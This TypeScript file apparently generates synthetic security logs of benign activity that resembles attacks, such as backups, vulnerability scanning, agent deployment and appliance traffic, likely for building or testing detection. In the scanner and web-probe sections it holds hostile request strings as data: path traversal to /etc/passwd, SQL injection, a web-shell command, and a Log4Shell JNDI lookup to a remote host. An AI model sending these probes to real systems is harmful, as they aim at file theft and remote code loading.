// What machines do in the network that looks like an attack a little: backups, scanners, deployment, appliances.
import { traffic } from '../../records/fortinet.ts';
import type { Line } from '../../records/kit.ts';
import { webRequest } from '../../records/linux.ts';
import { logon } from '../../records/windows-domain.ts';
import { processCreated } from '../../records/windows.ts';
import { connection, encrypted, httpRequest, question, remoteCall, smbFile } from '../../records/zeek.ts';
import { clientPort, type Deed, insideAddress, SECOND_MS, type Stage } from '../stage.ts';
import { POWERSHELL, SERVICES, SYSTEM } from '../windows-paths.ts';
import { serverOf, serversOf, serviceOf } from '../world/world.ts';
import type { Oddity } from './oddity.ts';
import { pidOf } from './people.ts';

/** The store in a cloud to which backups go. */
const BACKUP_STORE = '198.18.0.40';

/** A night of backups: from each server, and out to the store. */
const backsUp: Deed = (stage, ms) => {
  const { world, kit, dice } = stage;
  const backup = serverOf(world, 'backup');
  const who = serviceOf(world, 'backup');
  const lines = world.servers.filter((server) => !server.isLinux && server !== backup).flatMap((server, i): Line[] => {
    const atMs = ms + i * 240 * SECOND_MS;
    return [
      logon(kit, atMs, { host: server.name, who, address: backup.address }),
      connection(kit, atMs + SECOND_MS, { from: backup.address, fromPort: clientPort(stage), to: server.address, toPort: 10_006, seconds: 220, sent: 40_000_000, received: dice.int(800_000_000, 9_000_000_000) }),
    ];
  });
  const out = { from: backup.address, fromPort: clientPort(stage), to: BACKUP_STORE, toPort: 443, sent: dice.int(8_000_000_000, 30_000_000_000), received: 40_000_000, seconds: 7_200 };
  const outMs = ms + 7_500 * SECOND_MS;
  return [...lines, connection(kit, outMs, { ...out, service: 'ssl' }), traffic(kit, outMs, { ...out, session: dice.int(1_000_000, 99_999_999), fromName: backup.name, service: 'HTTPS' })];
};

/** The scanner for weak spots tries every server and some clients. */
export const scansWeakSpots: Deed = (stage, ms) => {
  const { world, kit, dice } = stage;
  const scanner = serverOf(world, 'scanner');
  const who = serviceOf(world, 'scan');
  const clients = dice.some(world.people, Math.min(80, world.people.length)).map((person) => insideAddress(world, person, ms));
  const lines = [...world.servers.filter((server) => server !== scanner).map((server) => server.address), ...clients].flatMap((to, i) => [22, 135, 445, 3389, 5985, 8080].map((toPort, j) => {
    const isOpen = dice.chance(0.3);
    return connection(kit, ms + i * 6 * SECOND_MS + j * 400, { from: scanner.address, fromPort: clientPort(stage), to, toPort, seconds: isOpen ? 1.2 : 0.01, sent: isOpen ? 900 : 0, received: isOpen ? 1_400 : 0, state: isOpen ? 'SF' : dice.chance(0.5) ? 'REJ' : 'S0' });
  }));
  const signIns = world.servers.filter((server) => !server.isLinux).map((server, i) => logon(kit, ms + i * 11 * SECOND_MS, { host: server.name, who, address: scanner.address, package: 'NTLM', workstation: scanner.name.toUpperCase() }));
  const web = ['/cgi-bin/status', '/index.php?page=../../../../etc/passwd', '/?q=1%20union%20select%201,2', '/shell.php', '/.env'].flatMap((path, i) => serversOf(world, 'web').map((server, j) => {
    const atMs = ms + (i * 9 + j) * SECOND_MS;
    return httpRequest(kit, atMs, { from: scanner.address, fromPort: clientPort(stage), to: server.address, toPort: 80, method: 'GET', host: server.name, path, userAgent: 'Mozilla/5.0 (compatible; WeakSpotScan/9)', status: 404 });
  }));
  return [...lines, ...signIns, ...web];
};

/** A new version of an agent goes to many hosts by the deployment server, with services and PowerShell. */
export const deploys: Deed = (stage, ms) => {
  const { world, kit, dice } = stage;
  const server = serverOf(world, 'deployment');
  const who = serviceOf(world, 'deploy');
  const people = dice.some(world.people, Math.min(world.people.length, dice.int(15, 45)));
  const version = `${dice.int(4, 9)}.${dice.int(0, 9)}.${dice.int(10, 99)}`;
  return people.flatMap((person, i): Line[] => {
    const atMs = ms + i * dice.int(8, 25) * SECOND_MS;
    const to = insideAddress(world, person, ms);
    const flow = { from: server.address, fromPort: clientPort(stage), to, toPort: 445 };
    return [
      logon(kit, atMs, { host: person.laptop.name, who, address: server.address }),
      connection(kit, atMs + 100, { ...flow, service: 'gssapi,smb,dce_rpc', seconds: 12, sent: 42_000_000, received: 90_000 }),
      smbFile(kit, atMs + 900, { ...flow, share: 'ADMIN$', name: `ccmsetup\\agent-${version}.exe`, size: 41_200_000 }),
      remoteCall(kit, atMs + 1_500, { ...flow, endpoint: 'svcctl', operation: 'CreateServiceW', pipe: '\\pipe\\svcctl' }),
      processCreated(kit, atMs + 4_000, { host: person.laptop.name, who: SYSTEM, pid: pidOf(stage), parentPid: 820, image: `C:\\Windows\\ccmsetup\\agent-${version}.exe`, commandLine: `C:\\Windows\\ccmsetup\\agent-${version}.exe /service /quiet`, parentImage: SERVICES, integrity: 'System' }),
      processCreated(kit, atMs + 9_000, { host: person.laptop.name, who: SYSTEM, pid: pidOf(stage), parentPid: 3_300, image: POWERSHELL, commandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\ccmcache\\1a\\register-agent.ps1 -Version ${version}`, parentImage: `C:\\Windows\\ccmsetup\\agent-${version}.exe`, integrity: 'System' }),
    ];
  });
};

const appliances: Oddity = {
  perDay: 10, isMachine: true,
  deed: (stage, ms) => {
    const { kit, dice } = stage;
    const number = dice.int(1, 6);
    const flow = { from: `10.40.0.${20 + number}`, fromPort: clientPort(stage), to: `198.18.0.${60 + number}`, toPort: dice.one([443, 8883, 9443, 8443]) };
    return [connection(kit, ms, { ...flow, service: 'ssl', seconds: 4, sent: 2_400, received: 4_000 }), encrypted(kit, ms + 20, dice.chance(0.6) ? flow : { ...flow, name: 'devices.printer-care.example', isSelfSigned: dice.chance(0.2) })];
  },
};

const sendsMuch: Oddity = {
  perUserDay: 0.004,
  deed: (stage, ms) => {
    const { world, kit, dice } = stage;
    const person = dice.one(world.people);
    const flow = { from: insideAddress(world, person, ms), fromPort: clientPort(stage), to: `198.18.0.${dice.int(44, 48)}`, toPort: 443, sent: dice.int(220_000_000, 900_000_000), received: 4_000_000, seconds: dice.int(60, 600) };
    return [question(kit, ms - 200, { ...flow, to: serverOf(world, 'controller').address, toPort: 53, name: 'upload.file-exchange.example', answers: [flow.to] }), connection(kit, ms, { ...flow, service: 'ssl' }), traffic(kit, ms, { ...flow, session: dice.int(1_000_000, 99_999_999), fromName: person.laptop.name, service: 'HTTPS' })];
  },
};

const ODD_NAMES = ['pastebin.com', 'api.ipify.org', 'icanhazip.com', 'transfer.sh', 'a.ngrok.io', 'www.deals.xyz', 'play.games.club', 'news.daily.top', 'cam.garden.ddns.net', 'api.telegram.org', 'www.torproject.org', 'files.print.space'];
const asksOddly: Oddity = {
  perUserDay: 0.03,
  deed: (stage, ms) => {
    const { world, kit, dice } = stage;
    const person = dice.one(world.people);
    const name = dice.chance(0.1) ? `${dice.hex(48)}.telemetry.${dice.one(world.sites).name}` : dice.one(ODD_NAMES);
    return [question(kit, ms, { from: insideAddress(world, person, ms), fromPort: clientPort(stage), to: serverOf(world, 'controller').address, toPort: 53, name, answers: ['198.18.1.77'] })];
  },
};

const downloadsProgram: Oddity = {
  perUserDay: 0.004,
  deed: (stage, ms) => {
    const { world, kit, dice } = stage;
    const person = dice.one(world.people);
    const site = dice.one(world.sites);
    return [httpRequest(kit, ms, { from: insideAddress(world, person, ms), fromPort: clientPort(stage), to: site.address, toPort: 80, method: 'GET', host: site.name, path: '/download/driver-setup.exe', userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', type: 'application/x-dosexec', received: 8_000_000 })];
  },
};

const relaysMail: Oddity = {
  perUserDay: 0.6, isMachine: true,
  deed: (stage, ms) => {
    const { world, kit, dice } = stage;
    return [connection(kit, ms, { from: serverOf(world, 'relay').address, fromPort: clientPort(stage), to: dice.one(world.partners).address, toPort: 25, service: 'smtp', seconds: 2, sent: dice.int(4_000, 900_000), received: 900 })];
  },
};

const webTried: Oddity = {
  perDay: 25, isMachine: true,
  deed: ({ kit, dice }, ms) => [webRequest(kit, ms, { from: `198.19.${dice.int(100, 127)}.${dice.int(1, 254)}`, method: 'GET', path: dice.one(['/wp-login.php', '/.env', '/cgi-bin/luci', '/index.php?page=../../../../etc/passwd', '/?x=%24%7Bjndi:ldap://198.19.100.9/a%7D', '/boaform/admin/formLogin', '/shell.php?cmd=id']), status: 404, bytes: 153, userAgent: 'Mozilla/5.0 zgrab/0.x' })],
};

export const NETWORK_ODDITIES: readonly Oddity[] = [appliances, sendsMuch, asksOddly, downloadsProgram, relaysMail, webTried];

/** What is done on fixed nights and days: backups each night, the scanner on Tuesdays and Thursdays, deployment on Mondays and Wednesdays. */
export function nightWork(stage: Stage, dayMs: number): Line[] {
  const weekday = (Math.floor(dayMs / 86_400_000) + 4) % 7;
  const lines = backsUp(stage, dayMs + 3_600 * SECOND_MS);
  if (weekday === 2 || weekday === 4) lines.push(...scansWeakSpots(stage, dayMs + 75_600 * SECOND_MS));
  if (weekday === 1 || weekday === 3) lines.push(...deploys(stage, dayMs + 36_000 * SECOND_MS));
  return lines;
}

